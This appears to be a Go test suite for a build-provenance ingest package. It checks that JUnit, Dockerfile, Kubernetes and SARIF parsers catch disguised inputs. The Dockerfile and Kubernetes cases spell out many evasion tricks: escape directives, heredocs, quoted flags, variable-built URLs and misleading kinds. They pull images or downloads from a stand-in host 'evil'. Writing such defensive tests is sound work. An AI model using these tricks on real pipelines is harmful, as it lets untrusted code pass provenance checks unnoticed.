package ingest

import (
	"strings"
	"testing"

	"github.com/hallmark-build/hallmark/provenance/predicate"
)

// A suite that counts a failure beside a test that passed at last, or that is
// known to fail, has a failure that it does not show.
func TestAttack_FlakyTestHidesFailure(t *testing.T) {
	for _, shown := range []string{"<flakyFailure/>", "<flakyError/>"} {
		for _, counts := range []string{`failures="1"`, `errors="1"`} {
			r, err := JUnit(strings.NewReader(`<testsuite name="s" tests="2" ` + counts + `><testcase name="a">` + shown + `</testcase><testcase name="b"/></testsuite>`))
			if err != nil {
				t.Fatal(err)
			}
			if r.Result != predicate.Failed {
				t.Errorf("%s, %s: %s", counts, shown, r.Result)
			}
		}
	}
	// Two failures are counted, one is shown, and that is one of a test that is known to fail.
	r, err := JUnit(strings.NewReader(`<testsuite name="s" tests="2" failures="2"><testcase name="a"><skipped type="todo"/><failure/></testcase><testcase name="b"/></testsuite>`))
	if err != nil {
		t.Fatal(err)
	}
	if r.Result != predicate.Failed {
		t.Errorf("a failure too many: %s", r.Result)
	}
	r, err = JUnit(strings.NewReader(`<testsuite name="s" tests="2"><testcase name="a"><flakyFailure/></testcase><testcase name="b"/></testsuite>`))
	if err != nil || r.Result != predicate.Warned {
		t.Errorf("a flaky test: %v, %v", r, err)
	}
}

// Dockerfiles that BuildKit builds from the image evil (or with a download
// from it): it must be among the inputs, or the file be refused.
func TestAttack_DockerfileHidesInput(t *testing.T) {
	const good = "FROM alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n"
	for name, file := range map[string]string{
		"directive after one that is none":   "# x=y\n# escape=`\n" + good + "LABEL a=`\nFROM evil\n",
		"directive after an empty one":       "# see=\n# escape=`\n" + good + "LABEL a=`\nFROM evil\n",
		"indented directive":                 " # escape=`\n" + good + "RUN true \\\nFROM evil\n",
		"directive after a wide space":       "#\u00a0escape=`\n" + good + "RUN true \\\nFROM evil\n",
		"carriage return after an escape":    good + "RUN true \\\r \nFROM evil\n",
		"end of heredoc and returns":         good + "RUN <<EOF\ntrue\nEOF\r\r\nFROM evil\nRUN <<USER\nEOF\nUSER\n",
		"heredoc named by a variable":        good + "RUN <<${X:-foo}\ntrue\nfoo\nFROM evil\nRUN <<USER\n${X:-foo}\nUSER\n",
		"heredoc made by a variable":         good + "RUN true ${X:-<<EOF}\nRUN <<Z\nEOF\nFROM evil\nRUN <<Z\ntrue\nZ\n",
		"instruction that there is not":      good + "RUN <<EOF\nEOF\nBAR x\nFROM evil",
		"flag in quotes":                     good + "COPY --\"from\"=evil /a /b\n",
		"flag with quotes in it":             good + "COPY --fr''om=evil /a /b\n",
		"flag with an escape":                good + "COPY --fr\\om=evil /a /b\n",
		"flag after one with a dash":         good + "COPY --keep-git-dir --from=evil /a /b\n",
		"mount with a capital":               good + "RUN --mount=type=bind,From=evil true\n",
		"mount with an escape":               good + "RUN --mount=type=bind,fr\\om=evil true\n",
		"mount in quotes":                    good + "RUN --mount='type=bind,\"from=evil\"' true\n",
		"download as JSON":                   good + "ADD [\"https://evil/x\",\"/y\"]\n",
		"download by a variable":             good + "ARG U=https://evil/x\nADD $U /y\n",
		"download by a part":                 good + "ARG P=s://evil/x\nADD http$P /y\n",
		"download with quotes in it":         good + "ADD ht\"t\"ps://evil/x /y\n",
		"download with an escape":            good + "ADD h\\ttps://evil/x /y\n",
		"git over SSH as somebody":           good + "ADD bob@evil:x /y\n",
		"download after a flag":              good + "ADD --keep-git-dir=true https://evil/x.git /y\n",
		"copy on build":                      good + "ONBUILD COPY --\"from\"=evil /a /b\n",
		"argument within an argument":        "ARG A=evil\nARG X=\"a A=alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\"\nFROM $A\n",
		"argument after an escape":           "ARG A=evil\nARG X=a\\ A=alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\nFROM $A\n",
		"two dashes":                         good + "COPY --from=evil -- /a /b\n",
		"download as JSON with flags":        good + "ADD --chown=1:1 [\"https://evil/x\",\"/y\"]\n",
		"download as JSON with an escape":    good + "ADD [\"https:\\u002f/evil/x\",\"/y\"]\n",
		"syntax of a frontend, then nothing": "#syntax=evil\n" + good,
	} {
		in, err := Dockerfile(strings.NewReader(file), nil)
		if err != nil {
			t.Logf("%s: refused: %v", name, err)
			continue
		}
		found := false
		for _, u := range in.Unresolved {
			found = found || strings.Contains(u.Ref, "evil") || strings.Contains(u.Ref, "$")
		}
		if !found {
			t.Errorf("%s: evil is not among the inputs: %+v", name, in)
		}
	}
}

// What people write is read as before.
func TestDockerfileOrdinary(t *testing.T) {
	in, err := Dockerfile(strings.NewReader("# syntax=docker/dockerfile:1\r\n# escape=\\\r\n"+
		"FROM --platform=$BUILDPLATFORM golang:1 AS build\r\n"+
		"RUN --mount=type=cache,target=/root/.cache \\\r\n  go build $((1<<2)) \\\r\n# a comment\r\n\r\n  ./...\r\n"+
		"COPY <<EOF /etc/x\r\nFROM nothing\r\nEOF\r\n"+
		"RUN cat <<-'EOF' > $HOME/y\r\n\tFROM nothing\r\n\tEOF\r\n"+
		"ADD . /src\r\nADD [\"a b\", \"/c\"]\r\n"+
		"FROM scratch\r\nCOPY --from=build --chown=1:1 /a /b\r\nENTRYPOINT [\"/b\"]\r\n"), nil)
	if err != nil {
		t.Fatal(err)
	}
	var refs []string
	for _, u := range in.Unresolved {
		refs = append(refs, u.Ref)
	}
	if got, want := strings.Join(refs, " "), "docker/dockerfile:1 golang:1"; got != want {
		t.Errorf("inputs %s, want %s", got, want)
	}
}

// Kinds are names that anybody can give: a resource that is called a list or a
// secret can run an image all the same.
func TestAttack_KubernetesHidesImage(t *testing.T) {
	for name, manifest := range map[string]string{
		"a list of its own":            "apiVersion: evil.io/v1\nkind: AllowList\nitems: []\nspec: {containers: [{image: evil}]}\n",
		"a list with other fields":     "apiVersion: v1\nkind: List\nitems: []\nspec: {containers: [{image: evil}]}\n",
		"a secret of another group":    "apiVersion: evil.io/v1\nkind: Secret\nspec: {image: evil}\n",
		"a config map of another":      "apiVersion: evil.io/v1\nkind: ConfigMap\nspec: {image: evil}\n",
		"an item of a list":            "apiVersion: v1\nkind: List\nitems: [{apiVersion: v1, kind: Pod, spec: {containers: [{image: evil}]}}]\n",
		"an item that is no object":    "apiVersion: evil.io/v1\nkind: AllowList\nitems: [{image: evil}]\n",
		"an item of an item of a list": "apiVersion: v1\nkind: List\nitems: [{apiVersion: v1, kind: PodList, items: [{apiVersion: v1, kind: Pod, spec: {image: evil}}]}]\n",
	} {
		in, err := Kubernetes(strings.NewReader(manifest))
		if err == nil && (len(in.Unresolved) != 1 || in.Unresolved[0].Ref != "evil") {
			t.Errorf("%s: %+v", name, in)
		}
	}
	// What is data is passed over.
	in, err := Kubernetes(strings.NewReader("apiVersion: v1\nkind: ConfigMap\ndata: {image: x}\n"))
	if err != nil || len(in.Unresolved)+len(in.Resolved) > 0 {
		t.Errorf("%+v, %v", in, err)
	}
}

// A finding of a rule that is an error must not become a warning because it
// names the rule by a part of it, or an invocation raised the level.
func TestAttack_SARIFLowersLevel(t *testing.T) {
	for name, run := range map[string]string{
		"hierarchical id":      `"tool":{"driver":{"name":"x","rules":[{"id":"A1","defaultConfiguration":{"level":"error"}}]}},"results":[{"ruleId":"A1/sub/part"}]`,
		"override by id":       `"tool":{"driver":{"name":"x","rules":[{"id":"A1"}]}},"invocations":[{"executionSuccessful":true,"ruleConfigurationOverrides":[{"descriptor":{"id":"A1"},"configuration":{"level":"error"}}]}],"results":[{"ruleId":"A1"}]`,
		"override by index":    `"tool":{"driver":{"name":"x","rules":[{"id":"A0"},{"id":"A1"}]}},"invocations":[{"executionSuccessful":true,"ruleConfigurationOverrides":[{"descriptor":{"index":1},"configuration":{"level":"error"}}]}],"results":[{"ruleId":"A1"}]`,
		"override, no rules":   `"tool":{"driver":{"name":"x"}},"invocations":[{"executionSuccessful":true,"ruleConfigurationOverrides":[{"descriptor":{"id":"A1"},"configuration":{"level":"error"}}]}],"results":[{"ruleId":"A1/b"}]`,
		"override that lowers": `"tool":{"driver":{"name":"x","rules":[{"id":"A1","defaultConfiguration":{"level":"error"}}]}},"invocations":[{"executionSuccessful":true,"ruleConfigurationOverrides":[{"descriptor":{"id":"A1"},"configuration":{"level":"note"}}]}],"results":[{"ruleId":"A1"}]`,
	} {
		s, err := SARIF(strings.NewReader(`{"version":"2.1.0","runs":[{` + run + `}]}`))
		if err != nil {
			t.Errorf("%s: %v", name, err)
		} else if s.Summary.Error != 1 {
			t.Errorf("%s: %+v", name, s.Summary)
		}
	}
	// What a result says itself stands.
	s, err := SARIF(strings.NewReader(`{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"x","rules":[{"id":"A1","defaultConfiguration":{"level":"error"}}]}},"results":[{"ruleId":"A1/b","level":"note"}]}]}`))
	if err != nil || s.Summary.Note != 1 {
		t.Errorf("%+v, %v", s, err)
	}
}
